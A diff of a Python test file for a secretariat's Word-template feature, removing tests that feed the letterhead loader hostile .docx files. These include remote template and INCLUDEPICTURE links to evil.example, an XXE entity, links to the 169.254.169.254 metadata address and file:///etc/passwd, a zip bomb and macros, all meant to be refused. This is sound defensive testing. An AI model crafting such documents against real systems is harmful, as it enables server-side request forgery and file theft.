@@ -1,124 +1,21 @@
-"""A secretariat's template keeps its own look, and nothing hostile comes in with it."""
+"""A secretariat's own Word template: its page and styles, with the document's text."""
 
-from datetime import UTC, datetime
 from io import BytesIO
-from zipfile import ZIP_DEFLATED, ZipFile
 
 import docx as python_docx
-import pytest
 from docx.enum.style import WD_STYLE_TYPE
 from docx.oxml.ns import qn
-from docx.shared import Cm, Pt
-from matplotlib.backends.backend_agg import FigureCanvasAgg
-from matplotlib.figure import Figure
+from docx.shared import Pt
 
 from documents.agenda_file import example
-from documents.blocks import (
-    Document,
-    Fields,
-    Heading,
-    Item,
-    Items,
-    Paragraph,
-    Picture,
-    Run,
-    Table,
-    plain,
-)
 from documents.concept_note import concept_note
 from documents.docx_file import docx
 from documents.letterhead import letterhead
-from documents.reading.apart import read_apart
-from documents.reading.refusing import Refused
-
-AT = datetime(2021, 8, 1, tzinfo=UTC)
-
-
-def drawn():
-    figure = Figure(figsize=(2, 0.6), facecolor="#204060")
-    FigureCanvasAgg(figure)
-    made = BytesIO()
-    figure.savefig(made, format="png")
-    return made.getvalue()
-
-
-def saved(made):
-    kept = BytesIO()
-    made.save(kept)
-    return kept.getvalue()
-
-
-def template(text=("An old letter.",)):
-    """Return a template with a letterhead, a logo, and styles of its own, on Letter paper."""
-    made = python_docx.Document()
-    section = made.sections[0]
-    section.page_width, section.page_height = Cm(21.59), Cm(27.94)
-    section.left_margin = section.right_margin = Cm(3)
-    made.styles["Normal"].font.name = "Georgia"
-    made.styles["Normal"].font.size = Pt(11.5)
-    made.styles["Heading 1"].font.name = "Georgia"
-    made.styles["Heading 1"].font.size = Pt(17)
-    for name in ("List Bullet", "List Number", "Table Grid", "Heading 3", "Caption"):
-        style = made.styles[name].element
-        style.getparent().remove(style)
-    header = section.header.paragraphs[0]
-    header.add_run().add_picture(BytesIO(drawn()), width=Cm(3))
-    header.add_run("  Secretariat of the Conference")
-    section.footer.paragraphs[0].text = "Av. Central 1, San José"
-    for line in text:
-        made.add_paragraph(line)
-    return saved(made)
-
-
-def changed(content, change):
-    """Return a zip whose files went through `change(name, bytes)`; None leaves one out."""
-    made = BytesIO()
-    with ZipFile(BytesIO(content)) as given, ZipFile(made, "w", ZIP_DEFLATED) as archive:
-        for name in given.namelist():
-            new = change(name, given.read(name))
-            if new is not None:
-                archive.writestr(name, new)
-    return made.getvalue()
-
-
-def with_link(content, part, kind, target):
-    link = (
-        f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-        f'relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
-    )
-
-    def change(name, kept):
-        return kept.replace(b"</Relationships>", link.encode()) if name == part else kept
-
-    return changed(content, change)
-
-
-EVERYTHING = Document(
-    "en",
-    "Everything",
-    "Footer",
-    (
-        Heading(0, plain("Everything")),
-        Heading(1, plain("One"), new_page=True),
-        Heading(3, plain("Three")),
-        Paragraph((Run("Words", note=plain("A note")),)),
-        Paragraph(plain("Quiet"), quiet=True),
-        Items((Item(plain("bullet"), (plain("under"),)),)),
-        Items((Item(plain("first")), Item(plain("second"))), numbered=True),
-        Items((Item(plain("first again")),), numbered=True),
-        Fields((("Label", plain("value")),)),
-        Table(("A", "B"), ((plain("a"), plain("b")),), (1, 2)),
-        Picture("p.png", drawn(), "What it shows", "Caption"),
-    ),
-)
+from tests.documents.templates import AT, EVERYTHING, changed, saved, template, texts
 
 
 def opened(made):
     return python_docx.Document(BytesIO(made))
-
-
-def texts(made):
-    return [line.text for line in read_apart(made, "made.docx").lines]
 
 
 def test_the_template_s_letterhead_page_and_styles_are_kept():
@@ -201,13 +98,6 @@ def test_the_text_goes_where_the_template_has_its_mark():
     assert "{{plenary}}" not in said
 
 
-def test_a_mark_where_no_document_can_stand_is_refused():
-    given = letterhead(template(("Here: {{plenary}} it goes",)), "letterhead.docx")
-
-    with pytest.raises(Refused, match="inside a table, a text box or a sentence"):
-        docx(EVERYTHING, AT, given)
-
-
 def test_a_template_without_a_footer_gets_the_pages_numbers():
     made = opened(docx(EVERYTHING, AT, letterhead(saved(python_docx.Document()), "plain.docx")))
 
@@ -262,68 +152,6 @@ def test_a_word_template_is_taken_as_a_document_is():
     assert texts(docx(EVERYTHING, AT, given))[0] == "Everything"
 
 
-def test_the_link_to_the_template_s_own_template_is_left_out():
-    given = with_link(
-        template(), "word/_rels/settings.xml.rels", "attachedTemplate", "http://evil.example/x.dotm"
-    )
-    given = with_link(
-        given, "word/_rels/document.xml.rels", "attachedTemplate", "http://evil.example/x.dotm"
-    )
-    made = docx(EVERYTHING, AT, letterhead(given, "letterhead.docx"))
-
-    with ZipFile(BytesIO(made)) as archive:
-        assert not any(b"evil.example" in archive.read(name) for name in archive.namelist())
-
-
-def test_a_link_of_the_letterhead_is_kept():
-    given = with_link(template(), "word/_rels/document.xml.rels", "hyperlink", "https://crmsv.org/")
-
-    assert letterhead(given, "letterhead.docx")
-
-
-def test_a_field_that_fetches_nothing_is_kept():
-    given = changed(
-        template(),
-        lambda name, kept: (
-            kept.replace(
-                b"<w:body>",
-                b'<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> '
-                b'HYPERLINK "https://crmsv.org/include link" </w:instrText></w:r></w:p>',
-            )
-            if name == "word/document.xml"
-            else kept
-        ),
-    )
-
-    assert letterhead(given, "letterhead.docx")
-
-
-def test_the_footnotes_and_comments_of_the_template_s_own_text_are_not_sent_on():
-    old = docx(Document("en", "Old", "", (Paragraph((Run("Old", note=plain("Old note")),)),)), AT)
-    commented = python_docx.Document(BytesIO(old))
-    commented.add_comment(commented.paragraphs[0].runs, "An old remark", "Ana")
-    made = docx(EVERYTHING, AT, letterhead(saved(commented), "letterhead.docx"))
-
-    with ZipFile(BytesIO(made)) as archive:
-        whole = b"".join(archive.read(name) for name in archive.namelist())
-    assert b"Old note" not in whole
-    assert b"An old remark" not in whole
-    assert "1 A note" in texts(made)
-
-
-def test_a_template_with_footnotes_around_its_mark_keeps_them():
-    letter = (
-        Paragraph((Run("Dear all", note=plain("As agreed")),)),
-        Paragraph(plain("{{plenary}}")),
-        Paragraph(plain("Yours")),
-    )
-    given = letterhead(docx(Document("en", "Letter", "", letter), AT), "letterhead.docx")
-    said = texts(docx(EVERYTHING, AT, given))
-
-    assert "Dear all1" in said
-    assert {"1 As agreed", "2 A note"} <= set(said)
-
-
 def test_the_same_template_document_and_instant_are_the_same_bytes():
     given = letterhead(template(), "letterhead.docx")
 
@@ -335,113 +163,3 @@ def test_a_whole_concept_note_fits_a_template():
     given = letterhead(template(), "letterhead.docx")
 
     assert texts(docx(note, AT, given)) == texts(docx(note, AT))
-
-
-def bomb():
-    made = BytesIO()
-    with ZipFile(made, "w", ZIP_DEFLATED) as archive:
-        archive.writestr("[Content_Types].xml", "<Types/>")
-        archive.writestr("word/document.xml", b" " * 50_000_000)
-    return made.getvalue()
-
-
-def random_bytes():
-    return b"<w:hdr>" + bytes(range(256)) * 10
-
-
-def with_entity(content):
-    def change(name, kept):
-        if name == "word/document.xml":
-            return (
-                b'<!DOCTYPE x [<!ENTITY a SYSTEM "http://127.0.0.1:1/">]>'
-                + kept[kept.find(b"<w:") :]
-            )
-        return kept
-
-    return changed(content, change)
-
-
-def with_field(content):
-    def change(name, kept):
-        if name == "word/document.xml":
-            field = (
-                b"<w:p><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "
-                b'"http://evil.example/x.png"</w:instrText></w:r></w:p>'
-            )
-            return kept.replace(b"<w:body>", b"<w:body>" + field)
-        return kept
-
-    return changed(content, change)
-
-
-def with_macros(content):
-    def change(name, kept):
-        if name == "[Content_Types].xml":
-            return kept.replace(
-                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
-                b"application/vnd.ms-word.document.macroEnabled.main+xml",
-            )
-        return kept
-
-    return changed(content, change)
-
-
-@pytest.mark.parametrize(
-    ("content", "name", "says"),
-    [
-        (lambda: b"Dear all", "letterhead.docx", "damaged|is called .docx but is plain text"),
-        (lambda: b"%PDF-1.7\n", "letterhead.docx", "is called .docx but is a PDF"),
-        (lambda: b"%PDF-1.7\n", "letterhead", "is a PDF"),
-        (lambda: b"\xd0\xcf\x11\xe0" + b"x" * 99, "letterhead.doc", "is an old Word"),
-        (lambda: template()[:3000], "letterhead.docx", "is damaged"),
-        (lambda: b"PK\x03\x04" + b"x" * 21_000_000, "letterhead.docx", "is larger than 20 MB"),
-        (bomb, "letterhead.docx", "unfolds into far more"),
-        (lambda: with_macros(template()), "letterhead.docm", "holds macros"),
-        (lambda: with_entity(template()), "letterhead.docx", "declares entities"),
-        (lambda: with_field(template()), "letterhead.docx", "fetches something from outside"),
-        (
-            lambda: with_link(
-                template(), "word/_rels/document.xml.rels", "image", "http://169.254.169.254/x.png"
-            ),
-            "letterhead.docx",
-            r"loads something from outside it \(http://169.254.169.254/x.png\)",
-        ),
-        (
-            lambda: with_link(
-                template(), "word/_rels/document.xml.rels", "hyperlink", "file:///etc/passwd"
-            ),
-            "letterhead.docx",
-            "loads something from outside",
-        ),
-        (
-            lambda: with_link(
-                template(), "word/_rels/document.xml.rels", "oleObject", "http://evil.example/x"
-            ),
-            "letterhead.docx",
-            "holds an embedded object",
-        ),
-        (
-            lambda: changed(template(), lambda n, c: None if n == "word/styles.xml" else c),
-            "letterhead.docx",
-            "is damaged",
-        ),
-        (
-            lambda: changed(
-                template(),
-                lambda n, c: c + bytes(100) if n != "word/header1.xml" else random_bytes(),
-            ),
-            "letterhead.docx",
-            "is damaged|unfolds",
-        ),
-        (
-            lambda: changed(template(), lambda n, c: None if n == "word/document.xml" else c),
-            "letterhead.docx",
-            "is damaged",
-        ),
-    ],
-)  # fmt: skip
-def test_a_hostile_or_broken_template_is_refused_in_a_sentence(content, name, says):
-    with pytest.raises(Refused, match=says) as refused:
-        letterhead(content(), name)
-
-    assert refused.value.instead.endswith(".")
